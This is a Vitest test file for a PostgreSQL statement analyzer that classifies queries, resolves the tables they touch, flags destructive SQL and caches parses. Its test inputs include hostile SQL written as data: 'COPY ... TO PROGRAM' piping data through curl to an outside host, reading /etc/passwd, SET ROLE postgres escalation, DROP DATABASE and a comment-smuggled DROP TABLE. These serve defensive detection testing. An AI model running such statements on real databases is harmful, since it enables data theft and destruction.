import { describe, it, expect, beforeAll } from 'vitest';
import { analyzeUncached, AnalysisCache, loadParser, type Analysis } from '../src/analyze/analyze.js';
import { cacheKey } from '../src/analyze/cachekey.js';

beforeAll(() => loadParser());

const ok = (sql: string): Analysis => {
  const r = analyzeUncached(sql);
  if (!r.ok) throw new Error(`unexpected parse failure: ${r.error}`);
  return r;
};
const tables = (sql: string) => ok(sql).statements.flatMap((s) => s.tables.map((t) => `${t.name}:${t.access}`)).sort();

describe('statement classification', () => {
  it.each([
    ['SELECT * FROM a JOIN b USING (id)', 'read', 'SELECT'],
    ['INSERT INTO a SELECT * FROM b', 'write', 'INSERT'],
    ['UPDATE a SET x = 1 WHERE id = 2', 'write', 'UPDATE'],
    ['MERGE INTO a USING b ON a.id = b.id WHEN MATCHED THEN DELETE', 'write', 'MERGE'],
    ['CREATE TABLE z (id int)', 'ddl', 'CREATE TABLE'],
    ['ALTER TABLE a ADD COLUMN c int', 'ddl', 'ALTER TABLE'],
    ['CREATE INDEX ON a (x)', 'ddl', 'CREATE INDEX'],
    ['GRANT SELECT ON a TO bob', 'admin', 'GRANT'],
    ['ALTER SYSTEM SET work_mem = 1', 'admin', 'ALTER SYSTEM'],
    ['SET ROLE postgres', 'admin', 'SET'],
    ['SET SESSION AUTHORIZATION postgres', 'admin', 'SET'],
    ['SET search_path = app', 'session', 'SET'],
    ['SHOW work_mem', 'session', 'SHOW'],
    ['BEGIN', 'transaction', 'BEGIN'],
    ['COPY a FROM STDIN', 'write', 'COPY FROM'],
    ['COPY a TO STDOUT', 'read', 'COPY TO'],
    ["COPY a FROM '/etc/passwd'", 'admin', 'COPY FROM'],
    ['EXPLAIN DELETE FROM a', 'read', 'EXPLAIN'],
    ['EXPLAIN (ANALYZE) DELETE FROM a', 'write', 'EXPLAIN ANALYZE'],
    ["SELECT set_config('role', 'postgres', false)", 'admin', 'SELECT'],
    ['SELECT pg_terminate_backend(42)', 'admin', 'SELECT'],
    ["SELECT * FROM dblink('x', 'DELETE FROM a') AS t(n int)", 'admin', 'SELECT'],
    ['SELECT * INTO newtab FROM a', 'ddl', 'SELECT INTO'],
    ['VACUUM a', 'admin', 'VACUUM'],
  ])('%s → %s', (sql, cls, command) => {
    const s = ok(sql).statements[0]!;
    expect(s.class).toBe(cls);
    expect(s.command).toBe(command);
  });
});

describe('tables and CTE scoping', () => {
  it('resolves qualified and unqualified tables with their access', () => {
    expect(tables('INSERT INTO audit.log (x) SELECT x FROM public.src JOIN other o ON true')).toEqual(['audit.log:write', 'other:read', 'public.src:read']);
  });
  it('a CTE name hides the table of that name only inside its scope', () => {
    expect(tables('WITH salaries AS (SELECT 1 AS x) SELECT * FROM salaries')).toEqual([]);
    // the non-recursive CTE body sees the real table
    expect(tables('WITH salaries AS (SELECT * FROM salaries) SELECT * FROM salaries')).toEqual(['salaries:read']);
    // a CTE inside a subquery does not hide the outer reference
    expect(tables('SELECT * FROM salaries, (WITH salaries AS (SELECT 1) SELECT * FROM salaries) x')).toEqual(['salaries:read']);
    // schema-qualified names are never CTEs
    expect(tables('WITH salaries AS (SELECT 1) SELECT * FROM hr.salaries')).toEqual(['hr.salaries:read']);
  });
  it('sees tables in subqueries, lateral joins, EXISTS and function arguments', () => {
    expect(tables('SELECT (SELECT max(x) FROM a), * FROM b WHERE EXISTS (SELECT 1 FROM c) AND id IN (SELECT id FROM d)')).toEqual(['a:read', 'b:read', 'c:read', 'd:read']);
  });
});

describe('destructive statements and flags', () => {
  it.each([
    ['DROP TABLE a, b CASCADE', 'DROP TABLE a, b CASCADE'],
    ['TRUNCATE a', 'TRUNCATE a'],
    ['DELETE FROM a', 'DELETE without WHERE on a'],
    ['UPDATE a SET x = 1', 'UPDATE without WHERE on a'],
    ['UPDATE a SET x = 1 WHERE true', 'UPDATE on a with a WHERE clause that does not reference any column'],
    ['ALTER TABLE a DROP COLUMN c', 'ALTER TABLE a DROP COLUMN c'],
    ["COPY a TO PROGRAM 'curl -d @- http://x'", 'COPY ... PROGRAM runs a shell command on the database server ("curl -d @- http://x")'],
    ['DROP DATABASE prod', 'DROP DATABASE prod'],
  ])('%s', (sql, reason) => {
    expect(ok(sql).destructive).toContain(reason);
  });

  it('a DELETE with a real WHERE is not destructive', () => {
    expect(ok('DELETE FROM a WHERE id = 3').destructive).toEqual([]);
  });

  it('finds data-modifying CTEs', () => {
    const a = ok('WITH gone AS (DELETE FROM orders RETURNING *) SELECT count(*) FROM gone');
    expect(a.flags).toContain('data-modifying-cte');
    expect(a.statements[0]!.class).toBe('write');
    expect(a.destructive).toContain('DELETE without WHERE on orders');
  });

  it('looks inside DO blocks, including constant EXECUTE strings', () => {
    const a = ok("DO $$ BEGIN EXECUTE 'DROP TABLE accounts'; UPDATE t SET x = 1; END $$");
    expect(a.flags).toEqual(expect.arrayContaining(['do-block', 'dynamic-sql']));
    expect(a.destructive).toEqual(expect.arrayContaining(['DROP TABLE accounts', 'UPDATE without WHERE on t', 'DO block runs procedural code']));
    expect(a.statements[0]!.class).toBe('admin');
    expect(tables("DO $$ BEGIN EXECUTE 'DROP TABLE accounts'; UPDATE t SET x = 1; END $$")).toEqual(['accounts:ddl', 't:write']);
  });

  it('flags EXECUTE of a computed string as dynamic SQL', () => {
    const a = ok("DO $$ DECLARE q text := 'DROP ' || 'TABLE x'; BEGIN EXECUTE q; END $$");
    expect(a.flags).toContain('dynamic-sql');
    expect(a.destructive.join()).toMatch(/dynamic EXECUTE/);
  });

  it('marks multi-statement strings and analyzes each statement', () => {
    const a = ok('SELECT 1; DELETE FROM a');
    expect(a.flags).toContain('multi-statement');
    expect(a.statements.map((s) => s.command)).toEqual(['SELECT', 'DELETE']);
  });

  it('fails (closed) on unparsable SQL with a position', () => {
    const r = analyzeUncached('SELECT * FROM WHERE');
    expect(r.ok).toBe(false);
    if (!r.ok) {
      expect(r.error).toMatch(/syntax error at or near "WHERE"/);
      expect(r.position).toBe(15);
    }
  });
});

describe('parse cache', () => {
  it('normalizes numeric literals only where it is certain', () => {
    expect(cacheKey('SELECT * FROM t1 WHERE a = 12 AND b = 1.5e3 AND c = $1')).toBe('SELECT * FROM t1 WHERE a = ? AND b = ? AND c = $1');
    expect(cacheKey("SELECT 'x1', 42")).toBe("SELECT 'x1', ?");
    expect(cacheKey("SELECT 'it''s 7', 8")).toBe("SELECT 'it''s 7', ?");
    for (const unsure of ["SELECT E'\\'', 1", 'SELECT 1 -- 2', 'SELECT /* 1 */ 2', 'SELECT $$1$$', 'SELECT 1abc', "SELECT '\\' , 1"]) {
      expect(cacheKey(unsure)).toBe(unsure);
    }
  });

  it('texts that differ only in numbers share an entry; other differences never do', () => {
    const cache = new AnalysisCache();
    const a = cache.analyze('SELECT abalance FROM pgbench_accounts WHERE aid = 17');
    const b = cache.analyze('SELECT abalance FROM pgbench_accounts WHERE aid = 99123');
    expect(b).toBe(a);
    expect(cache.hits).toBe(1);
    // a string that looks like a number-bearing comment must not collide with a real statement
    const c = cache.analyze("SELECT abalance FROM pgbench_accounts WHERE aid = 1 -- ; DROP TABLE x");
    expect(c).not.toBe(a);
    const d = cache.analyze('DELETE FROM pgbench_accounts WHERE aid = 17');
    expect(d.ok && d.statements[0]!.command).toBe('DELETE');
  });

  it('evicts instead of growing without bound', () => {
    const cache = new AnalysisCache(64);
    for (let i = 0; i < 1000; i++) cache.analyze(`SELECT c${i} FROM t`);
    expect((cache as any).map.size).toBeLessThanOrEqual(64);
  });
});
